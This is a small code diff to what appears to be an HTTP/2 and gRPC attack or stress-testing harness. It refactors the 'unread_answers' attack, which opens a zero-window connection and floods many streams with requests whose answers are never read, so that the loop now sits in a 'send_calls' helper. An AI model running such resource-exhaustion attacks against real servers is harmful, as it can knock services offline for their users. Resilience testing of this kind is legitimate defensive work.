@@ -19,6 +19,7 @@ from ..http2 import (
     grpc_message,
     literal,
 )
+from .many_calls import send_calls
 from .noting import note_frames
 
 __all__ = ["ATTACKS"]
@@ -77,14 +78,7 @@ def unread_answers(strike: Strike) -> None:
     request = strike.target.request(512, 120)
     message = grpc_message(request.SerializeToString())
     with Http2Connection(strike.target.host, strike.target.port, ((INITIAL_WINDOW_SIZE, 0),)) as connection:
-        for stream in range(1, 128, 2):
-            connection.send(_opened(strike, stream), strike.until)
-            if connection.send_data(stream, message, strike.until) < len(message):
-                break
-            connection.send(frame(DATA, END_STREAM, stream), strike.until)
-            strike.answers.note("SENT")
-        time.sleep(strike.left())
-        note_frames(strike.answers, connection)
+        send_calls(strike, connection, message, 64)
 
 
 @attack(_SLOW)
